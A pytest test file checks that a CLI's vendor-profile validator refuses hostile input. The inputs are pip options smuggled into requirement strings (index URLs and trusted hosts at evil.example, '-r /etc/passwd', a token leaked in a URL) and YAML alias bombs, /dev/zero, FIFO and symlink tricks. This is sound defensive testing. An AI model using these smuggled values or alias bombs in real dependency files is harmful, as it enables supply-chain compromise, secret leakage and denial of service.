"""Hostile vendor input: each test is named after the attack it stops (issue 12).

Every attack runs through the real CLI in a subprocess (``python -m kit vendors validate``),
with a timeout so a hang fails the test instead of stalling the suite, and must end in ONE
``ckit: error:`` line naming the file and exit code 3 (``ExitCode.INPUT_ERROR``).
"""

from __future__ import annotations

import dataclasses
import os
import subprocess
import sys
from pathlib import Path

import pytest
from vendors_helpers import GOOD_PROFILE, write_vendor

from kit.container.context import write_vendor_context
from kit.errors import ExitCode, InputError
from kit.standard import load_standard
from kit.vendors import load_vendor
from kit.yamlio import MAX_YAML_BYTES, load_yaml

#: Generous: every refusal here is decided before any real work; a hang hits this instead.
CLI_TIMEOUT_S = 120

KIT_ROOT = Path(__file__).resolve().parents[2]


def _billion_laughs(anchor_key: str = "lol") -> str:
    """The classic alias bomb: 9 levels of 9 aliases each, about 10**9 nodes expanded."""
    lines = [f'{anchor_key}0: &l0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    for level in range(1, 10):
        aliases = ", ".join([f"*l{level - 1}"] * 9)
        lines.append(f"{anchor_key}{level}: &l{level} [{aliases}]")
    return "\n".join(lines) + "\n"


def _validate(vendors_root: Path, vendor: str = "acme") -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "CKIT_VENDORS_DIR": str(vendors_root)}
    return subprocess.run(
        [sys.executable, "-m", "kit", "vendors", "validate", vendor],
        env=env,
        capture_output=True,
        text=True,
        timeout=CLI_TIMEOUT_S,
        cwd=KIT_ROOT,
    )


def _assert_refused(result: subprocess.CompletedProcess[str], *fragments: str) -> str:
    """Exit 3 and exactly one line on stderr: no traceback, the file and the reason named."""
    assert result.returncode == ExitCode.INPUT_ERROR, result.stderr
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1, result.stderr
    assert lines[0].startswith("ckit: error: ")
    assert "Traceback" not in result.stderr
    for fragment in fragments:
        assert fragment in lines[0], f"{fragment!r} not in {lines[0]!r}"
    assert "OK" not in result.stdout
    return lines[0]


def _profile_with_requirements(yaml_list: str) -> str:
    assert "requirements: []\n" in GOOD_PROFILE
    return GOOD_PROFILE.replace("requirements: []\n", f"requirements: {yaml_list}\n")


# -- requirements: pip options smuggled into the image's requirements file -------------------


SMUGGLED_REQUIREMENTS = {
    "requirement_with_newline_smuggles_index_url":
        r'["numpy\n--index-url https://evil.example/simple"]',
    "requirement_with_carriage_return_smuggles_index_url":
        r'["numpy\r--index-url=https://evil.example/simple"]',
    "requirement_with_unicode_line_separator_smuggles_index_url":
        r'["numpy\u2028--index-url=https://evil.example/simple"]',
    "requirement_with_nul_byte": r'["numpy\0--trusted-host=evil.example"]',
    "requirement_with_trusted_host_option": '["--trusted-host=evil.example"]',
    "requirement_with_indented_extra_index_option": '[" --extra-index-url=https://evil.example"]',
    "requirement_with_short_index_option": "['-i https://evil.example/simple']",
    "requirement_with_editable_option": "['-e git+https://evil.example/pkg.git']",
    "requirement_with_nested_requirements_file": "['-r /etc/passwd']",
    "requirement_with_option_after_the_name": "['numpy --trusted-host evil.example']",
    "requirement_with_comment_hiding_the_rest": "['numpy # and whatever follows']",
    "requirement_with_environment_variable": "['numpy @ https://${PIP_TOKEN}@evil.example/np']",
    "local_path_with_space_and_option": "['./wheels/acme.whl --trusted-host evil.example']",
}


@pytest.mark.parametrize(
    "requirements", SMUGGLED_REQUIREMENTS.values(), ids=SMUGGLED_REQUIREMENTS.keys()
)
def test_smuggled_requirement_is_refused_when_the_profile_loads(
    tmp_path: Path, requirements: str
) -> None:
    directory = write_vendor(tmp_path, profile=_profile_with_requirements(requirements))
    result = _validate(tmp_path)
    _assert_refused(result, str(directory / "vendor.yaml"), ": requirements.0: ")


def test_requirement_with_newline_smuggles_index_url(tmp_path: Path) -> None:
    # The probe from the issue, spelled out: the message says why a line break is refused.
    text = SMUGGLED_REQUIREMENTS["requirement_with_newline_smuggles_index_url"]
    write_vendor(tmp_path, profile=_profile_with_requirements(text))
    line = _assert_refused(_validate(tmp_path), ": requirements.0: ", "line break")
    assert "\\n--index-url" in line  # shown escaped, so the message stays one line


def test_requirement_with_trusted_host_option(tmp_path: Path) -> None:
    text = SMUGGLED_REQUIREMENTS["requirement_with_trusted_host_option"]
    write_vendor(tmp_path, profile=_profile_with_requirements(text))
    _assert_refused(_validate(tmp_path), ": requirements.0: ", "pip option", "--trusted-host")


def test_requirement_with_newline_never_reaches_the_image_requirements_file(
    tmp_path: Path,
) -> None:
    # A profile object built past the loader's check is still stopped where the file is written.
    vendor = load_vendor(write_vendor(tmp_path / "vendors"))
    smuggled = dataclasses.replace(
        vendor, requirements=("numpy\n--index-url https://evil.example/simple",)
    )
    context = tmp_path / "context"
    refused = r"vendor\.yaml: requirement 0 for the image: .*line break"
    with pytest.raises(InputError, match=refused):
        write_vendor_context(context, smuggled)
    assert not (context / "vendor-requirements.txt").exists()


def test_honest_requirements_still_load(tmp_path: Path) -> None:
    honest = (
        "['numpy>=1.26', \"acme-sdk[npu]==1.2; python_version >= '3.11'\", "
        "'acme-rt @ https://acme.example/acme_rt-1.0-py3-none-any.whl']"
    )
    write_vendor(tmp_path, profile=_profile_with_requirements(honest))
    result = _validate(tmp_path)
    assert result.returncode == 0, result.stderr
    assert result.stdout == "OK acme\n"


# -- YAML: alias bombs, endless files, oversized files ---------------------------------------


def test_yaml_alias_bomb_in_profile(tmp_path: Path) -> None:
    directory = write_vendor(tmp_path, profile=GOOD_PROFILE + _billion_laughs())
    _assert_refused(_validate(tmp_path), str(directory / "vendor.yaml"), "nodes", "alias")


def test_yaml_alias_bomb_in_skip_manifest(tmp_path: Path) -> None:
    directory = write_vendor(tmp_path, skips="skips: []\n" + _billion_laughs())
    _assert_refused(_validate(tmp_path), str(directory / "skips.yaml"), "nodes", "alias")


def test_yaml_recursive_alias_in_skip_manifest(tmp_path: Path) -> None:
    directory = write_vendor(tmp_path, skips="skips: &loop [*loop]\n")
    _assert_refused(_validate(tmp_path), str(directory / "skips.yaml"), "recursive")


def test_yaml_nested_past_the_recursion_limit(tmp_path: Path) -> None:
    directory = write_vendor(tmp_path, skips="skips: " + "[" * 5000 + "]" * 5000 + "\n")
    _assert_refused(_validate(tmp_path), str(directory / "skips.yaml"), "nested deeper")


def test_skip_manifest_is_dev_zero(tmp_path: Path) -> None:
    profile = GOOD_PROFILE.replace("skip_manifest: skips.yaml", "skip_manifest: /dev/zero")
    write_vendor(tmp_path, profile=profile, skips=None)
    # Refused before it is opened: a profile's paths stay inside its vendor directory.
    _assert_refused(_validate(tmp_path), "/dev/zero", "is outside the vendor directory")


def test_skip_manifest_is_a_fifo(tmp_path: Path) -> None:
    # Reading a FIFO with no writer blocks forever; the subprocess timeout turns a hang into a
    # failure rather than a stuck suite.
    directory = write_vendor(tmp_path, skips=None)
    os.mkfifo(directory / "skips.yaml")
    _assert_refused(_validate(tmp_path), str(directory / "skips.yaml"), "FIFO")


def test_profile_is_a_symlink_to_dev_zero(tmp_path: Path) -> None:
    directory = tmp_path / "acme"
    directory.mkdir()
    (directory / "vendor.yaml").symlink_to("/dev/zero")
    _assert_refused(_validate(tmp_path), str(directory / "vendor.yaml"), "character device")


def test_oversized_yaml(tmp_path: Path) -> None:
    directory = write_vendor(tmp_path)
    with (directory / "skips.yaml").open("w", encoding="utf-8") as handle:
        handle.write("skips: []\n")
        handle.write("#" * MAX_YAML_BYTES + "\n")  # valid YAML: only its size is wrong
    _assert_refused(_validate(tmp_path), str(directory / "skips.yaml"), "4 MiB limit")


def test_yaml_alias_bomb_in_the_standard_is_refused_too(tmp_path: Path) -> None:
    # One loader for every YAML the kit reads: the standard's own files get the same limits.
    (tmp_path / "standard.yaml").write_text(_billion_laughs(), encoding="utf-8")
    with pytest.raises(InputError, match=r"standard\.yaml: YAML refused: more than"):
        load_standard(directory=tmp_path)


def test_a_few_honest_aliases_still_load(tmp_path: Path) -> None:
    path = tmp_path / "aliases.yaml"
    path.write_text("base: &base {reason: upstream-bug}\nfirst: *base\nsecond: *base\n")
    assert load_yaml(path) == {
        "base": {"reason": "upstream-bug"},
        "first": {"reason": "upstream-bug"},
        "second": {"reason": "upstream-bug"},
    }


def test_every_yaml_file_the_kit_ships_is_within_the_limits() -> None:
    shipped = [
        path
        for folder in ("standards", "vendors")
        for path in sorted((KIT_ROOT / folder).rglob("*.yaml"))
    ]
    assert shipped
    for path in shipped:
        load_yaml(path)  # raises InputError naming the file if a limit were too tight
